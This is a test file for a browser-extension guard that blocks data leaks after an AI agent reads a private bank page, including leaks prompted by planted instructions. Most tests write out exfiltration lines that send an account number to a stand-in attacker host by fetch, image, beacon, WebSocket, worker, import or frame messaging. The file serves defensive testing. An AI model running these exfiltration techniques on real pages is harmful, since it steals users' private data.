// Places that a public page's own code reaches for after a private read elsewhere: they load, and take nothing read elsewhere.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { playwrightHands } from '../agents/playwright.mjs';
import { until } from '../agents/tasks.mjs';
import { PREPARE, SECRETS, sceneOf } from '../attacks/attempt.mjs';
import { leaked } from '../sites/leaks.mjs';
import {
  APP,
  EAR,
  ELSEWHERE,
  reached as extra,
  MADE_OF,
  onPrompt,
  PAY,
  PAY_API,
  PICKER,
  PIECES,
  PROMPT,
  SLOW,
  TRAINS,
} from '../sites/reached.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { HOSTS, urlOf } from '../sites/world.mjs';
import { extension } from './with-guard.mjs';

const ATTACKER = `http://${HOSTS.attacker}`;
const PLAIN_WAYS = [
  `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
  `await fetch('${ATTACKER}/c?d=' + encodeURIComponent(D), { mode: 'no-cors' })`,
  `new Image().src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
  `navigator.sendBeacon('${ATTACKER}/c', D)`,
];
/** Of the rules by which a fresh document or frame loads what it is made of. */
const FRESH_PRIORITY = 30;

const LOADED = '[...document.images].filter((i) => i.naturalWidth > 0).length';

describe('after a private read at the bank, where nobody is signed in', () => {
  let sites;
  let scene;
  before(async () => {
    sites = await startSites({ extra });
    scene = sceneOf(await playwrightHands({ extension, args: flagsFor(sites, Object.keys(extra)) }), sites);
    await PREPARE.bank(scene);
  });
  after(async () => {
    await scene?.hands.close();
    await sites.close();
  });

  const evaluate = (code) => scene.hands.run(`(async () => { ${code} })().catch((e) => String(e))`);
  /** No document or frame is fresh any more. */
  const closed = async () => {
    const worker = scene.hands.context.serviceWorkers().find((one) => one.url().includes(scene.id));
    const priorities = () =>
      worker.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).map((rule) => rule.priority));
    await until(async () => !worker || !(await priorities()).includes(FRESH_PRIORITY), 'that nothing is fresh');
  };
  const arrived = (path) => sites.collector.records.some(({ url }) => url.includes(path));

  test('a list comes from its interface, with its pictures', { timeout: 60_000 }, async () => {
    const { hands } = scene;
    await hands.goto(`http://${TRAINS}/`);
    await closed();
    await hands.click({ button: 'Search' });
    await until(async () => (await hands.read()).includes('nine'), 'what the interface said');
    await until(async () => (await hands.run(LOADED)) === 2, 'pictures that a script wrote');
  });

  test('a page is made of modules that import others from elsewhere, and gets a further one at the second try', {
    timeout: 60_000,
  }, async () => {
    const { hands } = scene;
    await hands.goto(`http://${MADE_OF}/`);
    await until(async () => (await hands.read()).includes('made of modules'), 'what its modules make', 5_000);
    await closed();
    const piece = () => hands.run(`import('http://${PIECES}/editor.js').then(({ name }) => name, () => 'no')`);
    await until(async () => (await piece()) === 'editor', 'a module asked for late', 10_000);
  });

  test('a page of a site that is new has its own script though our worker is busy as it comes', {
    timeout: 60_000,
  }, async () => {
    const worker = scene.hands.context.serviceWorkers().find((one) => one.url().includes(scene.id));
    onPrompt(() => worker?.evaluate('for (const end = Date.now() + 500; Date.now() < end; );'));
    await scene.hands.goto(`http://${PROMPT}/`);
    await until(async () => (await scene.hands.read()).includes('made by its own script'), 'its own script', 5_000);
  });

  test('a page whose server takes its time is made of what it loads, also where another one was left for it', {
    timeout: 60_000,
  }, async () => {
    const { hands } = scene;
    await hands.goto(`http://${TRAINS}/`);
    await hands.goto(`http://${SLOW}/`);
    await until(async () => (await hands.read()).includes('made of its code'), 'its code');
  });

  for (const host of [TRAINS, APP])
    test(`a payment frame that ${host} opens late is made of what it loads from elsewhere`, {
      timeout: 60_000,
    }, async () => {
      const { hands } = scene;
      await hands.goto(`http://${host}/`);
      await closed();
      await hands.run(`addEventListener('message', ({ data }) => document.title = data);
      document.body.appendChild(document.createElement('iframe')).src = 'http://${PAY}/'; 0`);
      await until(async () => (await hands.run('document.title')) === 'made', 'code of the frame');
      await closed();
      await hands.run("frames[0].postMessage('more', '*')");
      await hands.wait(1_000);
      assert.ok(!scene.world.visits.some(({ site }) => site === ELSEWHERE));
    });

  test('a place that was reached gets nothing that was read elsewhere', { timeout: 60_000 }, async () => {
    const { account } = scene.world.person;
    await scene.hands.goto(`http://${TRAINS}/`);
    await closed();
    await evaluate(`await fetch('${ATTACKER}/c/plain', { mode: 'no-cors' })`);
    assert.ok(arrived('/c/plain'), 'the place was not reached');
    for (const way of PLAIN_WAYS) await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
    await scene.hands.wait(1_000);
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
    // A picture that is a document is told so, too.
    await scene.hands.goto(`http://${TRAINS}/plan.svg`);
    const told = await scene.hands.run(`Promise.race([
      fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(account)} }).then(() => 'went', () => 'refused'),
      new Promise((later) => setTimeout(later, 8000, 'no answer')),
    ])`);
    assert.equal(told, extension ? 'refused' : 'went');
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
  });

  test('from a signed-in page single requests reach new places, and take nothing of its own', {
    timeout: 60_000,
  }, async () => {
    const { account } = scene.world.person;
    sites.collector.records.length = 0;
    await scene.hands.goto(urlOf('bank', '/account'));
    await closed();
    await evaluate(`await fetch('${ATTACKER}/c/plain', { mode: 'no-cors' })`);
    await evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src="${ATTACKER}/c/picture">')`);
    await until(async () => arrived('/c/plain') && arrived('/c/picture'), 'what carries nothing');
    for (const way of [
      ...PLAIN_WAYS,
      `await fetch('${ATTACKER}/c?d=' + btoa(D), { mode: 'no-cors' })`,
      `document.body.insertAdjacentHTML('beforeend', '<img src="${ATTACKER}/c?d=' + encodeURIComponent(D) + '">')`,
      `document.body.insertAdjacentHTML('beforeend', '<video src="${ATTACKER}/c/film.mp4?d=' + encodeURIComponent(D) + '"></video>')`,
      `document.body.insertAdjacentHTML('beforeend', '<video><source src="${ATTACKER}/c/film.mp4?d=' + encodeURIComponent(D) + '"></video>')`,
      `document.body.appendChild(document.createElement('iframe')).src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
      `const x = new XMLHttpRequest(); x.open('POST', '${ATTACKER}/c'); x.send(D)`,
      `const f = document.body.appendChild(document.createElement('iframe')); f.contentWindow.fetch('${ATTACKER}/c', { method: 'POST', mode: 'no-cors', body: D })`,
      `new Worker(URL.createObjectURL(new Blob(['fetch("${ATTACKER}/c", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(D) + ' })'])))`,
      `new WebSocket('${ATTACKER.replace('http', 'ws')}/c?d=' + encodeURIComponent(D))`,
      `for (const piece of D.match(/.{1,4}/g)) await fetch('${ATTACKER}/c?d=' + encodeURIComponent(piece), { mode: 'no-cors' })`,
    ])
      await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
    await scene.hands.wait(1_500);
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
  });

  test('a piece of a signed-in page’s code elsewhere comes when it is asked for again, and takes nothing along', {
    timeout: 60_000,
  }, async () => {
    const { hands, world } = scene;
    sites.collector.records.length = 0;
    await hands.goto(`http://${APP}/`);
    await closed();
    const piece = () => hands.run(`import('http://${PIECES}/editor.js').then(({ name }) => name, () => 'no')`);
    await until(async () => (await piece()) === 'editor', 'the piece', 10_000);
    await hands.goto(urlOf('bank', '/account'));
    await closed();
    const { account } = world.person;
    for (const carried of [account, btoa(account), account.split('').reverse().join('')])
      for (let n = 0; n < 3; n += 1) {
        await evaluate(`await import('${ATTACKER}/c/code.js?d=${encodeURIComponent(carried)}')`);
        await hands.wait(400);
      }
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
    assert.ok(!arrived('/c/code.js'), 'what carries a number was asked for');
  });

  test('a signed-in page sends a message by its interface elsewhere, first used late', {
    timeout: 60_000,
  }, async () => {
    await scene.hands.goto(`http://${APP}/`);
    await closed();
    await evaluate(`await fetch('http://${PAY_API}/send', { method: 'POST', mode: 'no-cors',
      body: JSON.stringify({ to: 'ann@mail.example', body: 'Lunch at twelve?' }) })`);
    await until(
      async () => scene.world.visits.some(({ site, path }) => site === PAY_API && path === '/send'),
      'the message',
    );
  });

  test('a window that a signed-in page opens elsewhere is there at once, and tells its page', {
    timeout: 60_000,
  }, async () => {
    await scene.hands.goto(`http://${APP}/`);
    await closed();
    const opened = await scene.hands.run(`addEventListener('message', ({ data }) => document.title = data);
      open('http://${PICKER}/', 'picker', 'width=300,height=300') !== null`);
    assert.equal(opened, true);
    await until(async () => (await scene.hands.run('document.title')) === 'chosen', 'the answer');
    const { account } = scene.world.person;
    assert.equal(await scene.hands.run(`open('http://${PICKER}/?d=${encodeURIComponent(account)}') === null`), true);
  });

  test('a frame that a signed-in page opens late is told nothing of the page, by a message or a port', {
    timeout: 60_000,
  }, async () => {
    const { account } = scene.world.person;
    sites.collector.records.length = 0;
    await scene.hands.goto(urlOf('bank', '/account'));
    await closed();
    await evaluate(`addEventListener('message', ({ data }) => document.title = data);
      document.body.appendChild(document.createElement('iframe')).src = 'http://${EAR}/';`);
    await until(async () => (await scene.hands.run('document.title')) === 'listening', 'the frame');
    await evaluate(`const D = ${JSON.stringify(account)}; const w = frames[frames.length - 1];
      w.postMessage(D, '*'); w.postMessage('hello', '*');
      const { port1, port2 } = new MessageChannel(); w.postMessage('port', '*', [port2]); port1.postMessage(D);`);
    await until(async () => arrived('/c/heard?d=hello'), 'what carries nothing');
    await scene.hands.wait(1_000);
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
    assert.ok(!arrived('d=port'));
  });

  test('nor from any page once planted instructions were read', { timeout: 60_000 }, async () => {
    await scene.poison();
    await scene.hands.goto(`http://${TRAINS}/`);
    await closed();
    await evaluate(`await fetch('http://${ELSEWHERE}/plain', { mode: 'no-cors' })`);
    await scene.hands.wait(1_000);
    assert.ok(!scene.world.visits.some(({ site }) => site === ELSEWHERE));
  });
});
